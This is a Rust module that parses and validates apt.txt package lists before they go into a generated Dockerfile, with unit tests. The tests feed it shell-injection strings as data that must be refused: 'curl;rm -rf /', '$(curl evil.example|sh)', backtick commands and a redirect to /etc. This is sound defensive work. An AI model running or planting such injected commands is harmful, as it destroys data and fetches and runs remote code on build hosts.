//! `apt.txt`: Debian packages installed into the image, as repo2docker does, in a layer of their
//! own before the Python environment.
//!
//! Every entry must be a Debian package name (`[a-z0-9][a-z0-9+.-]+`), optionally with `=version`;
//! the names are written into a `RUN apt-get install` line of the generated Dockerfile, so anything
//! else (options such as `-o` or `--allow-unauthenticated`, shell syntax such as `;`, `$(...)`, quotes)
//! is refused with its file and line. Comments (`#` at the start or after a space) and blank lines
//! are allowed; several names on one line are read as several packages, as repo2docker's install
//! line does.

use std::path::{Path, PathBuf};

use crate::recipe::error::BinderError;

/// More packages than this is a mistake (dependencies come with the packages that need them).
pub const MAX_APT_PACKAGES: usize = 200;

/// One package of `apt.txt`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AptPackage {
    /// `name` or `name=version`, exactly as `apt-get install` takes it.
    pub spec: String,
    /// The package name alone.
    pub name: String,
    /// The `apt.txt` it was read from, relative to the repository's root.
    pub file: PathBuf,
    /// 1-based line of `apt.txt`.
    pub line: usize,
}

/// Reads `text` as `apt.txt` (`file` is the path to name in errors).
pub fn parse_apt_txt(text: &str, file: &Path) -> Result<Vec<AptPackage>, BinderError> {
    let mut packages = Vec::new();
    for (index, line) in text.lines().enumerate() {
        let content = strip_comment(line);
        for word in content.split_whitespace() {
            let name = word.split_once('=').map_or(word, |(name, _)| name);
            if !is_package_spec(word) {
                return Err(BinderError::AptPackage {
                    file: file.to_path_buf(),
                    line: index + 1,
                    text: word.to_owned(),
                });
            }
            packages.push(AptPackage {
                spec: word.to_owned(),
                name: name.to_owned(),
                file: file.to_path_buf(),
                line: index + 1,
            });
        }
    }
    if packages.len() > MAX_APT_PACKAGES {
        return Err(BinderError::TooManyAptPackages {
            file: file.to_path_buf(),
            count: packages.len(),
            limit: MAX_APT_PACKAGES,
        });
    }
    Ok(packages)
}

/// `name` or `name=version` in Debian's syntax. A version starts with a digit and holds letters,
/// digits and `.+~:-` (`1:2.3~rc1-4`); `:~` is refused since a shell may read `~` after `:` as a
/// home folder.
fn is_package_spec(word: &str) -> bool {
    let (name, version) = match word.split_once('=') {
        Some((name, version)) => (name, Some(version)),
        None => (word, None),
    };
    let name_valid = name.len() >= 2
        && name
            .bytes()
            .next()
            .is_some_and(|first| first.is_ascii_lowercase() || first.is_ascii_digit())
        && name.bytes().all(|byte| {
            byte.is_ascii_lowercase() || byte.is_ascii_digit() || b"+.-".contains(&byte)
        });
    let version_valid = version.is_none_or(|version| {
        version
            .bytes()
            .next()
            .is_some_and(|first| first.is_ascii_digit())
            && version
                .bytes()
                .all(|byte| byte.is_ascii_alphanumeric() || b".+~:-".contains(&byte))
            && !version.contains(":~")
    });
    name_valid && version_valid
}

/// A comment runs from `#` at the start of the line or after whitespace to the end of the line.
fn strip_comment(line: &str) -> &str {
    let mut previous_is_space = true;
    for (index, character) in line.char_indices() {
        if character == '#' && previous_is_space {
            return &line[..index];
        }
        previous_is_space = character.is_whitespace();
    }
    line
}

#[cfg(test)]
mod tests {
    use super::*;

    fn specs(text: &str) -> Vec<(String, usize)> {
        parse_apt_txt(text, Path::new("apt.txt"))
            .unwrap()
            .into_iter()
            .map(|package| (package.spec, package.line))
            .collect()
    }

    fn refusal(text: &str) -> String {
        parse_apt_txt(text, Path::new("binder/apt.txt"))
            .expect_err("expected apt.txt to be refused")
            .to_string()
    }

    #[test]
    fn reads_names_versions_comments_and_blank_lines() {
        assert_eq!(
            specs(
                "# tools\njq\n\nlibxml2-dev  # headers\ng++ libc6=2.36-9+deb12u4\n\
                 saods9=8.4.1+dfsg-1 python3.11\ntexlive=2022.20230122-3\nfoo=1:2.3~rc1-4\n"
            ),
            [
                ("jq".to_owned(), 2),
                ("libxml2-dev".to_owned(), 4),
                ("g++".to_owned(), 5),
                ("libc6=2.36-9+deb12u4".to_owned(), 5),
                ("saods9=8.4.1+dfsg-1".to_owned(), 6),
                ("python3.11".to_owned(), 6),
                ("texlive=2022.20230122-3".to_owned(), 7),
                ("foo=1:2.3~rc1-4".to_owned(), 8),
            ]
        );
        let package = &parse_apt_txt("jq=1.6-2.1\n", Path::new("apt.txt")).unwrap()[0];
        assert_eq!(package.name, "jq");
        assert!(specs("\n# nothing\n").is_empty());
    }

    #[test]
    fn refuses_options_and_shell_syntax_naming_file_and_line() {
        for (text, shown) in [
            ("jq\n-o APT::Get::AllowUnauthenticated=true\n", "-o"),
            ("jq\n--allow-unauthenticated\n", "--allow-unauthenticated"),
            ("jq\ncurl;rm -rf /\n", "curl;rm"),
            ("jq\n$(curl evil.example|sh)\n", "$(curl"),
            ("jq\n`id`\n", "`id`"),
            ("jq\njq && touch /pwned\n", "&&"),
            ("jq\njq|sh\n", "jq|sh"),
            ("jq\n'jq'\n", "'jq'"),
            ("jq\nJQ\n", "JQ"),
            ("jq\nlibfoo:amd64\n", "libfoo:amd64"),
            ("jq\njq=\n", "jq="),
            ("jq\njq=latest\n", "jq=latest"),
            ("jq\njq=1:~2\n", "jq=1:~2"),
            ("jq\njq=1.6>/etc/x\n", "jq=1.6>/etc/x"),
            ("jq\nj\n", "j"),
            ("jq\n.hidden\n", ".hidden"),
        ] {
            let message = refusal(text);
            assert!(
                message.starts_with(&format!(
                    "binder/apt.txt:2: `{shown}` is not a Debian package"
                )),
                "{text:?}: {message}"
            );
        }
    }

    #[test]
    fn refuses_too_many_packages() {
        let names: Vec<String> = (0..=MAX_APT_PACKAGES)
            .map(|index| format!("pkg{index}"))
            .collect();
        let text = names.join("\n");
        assert!(refusal(&text).contains("at most 200 may be listed"));
    }
}
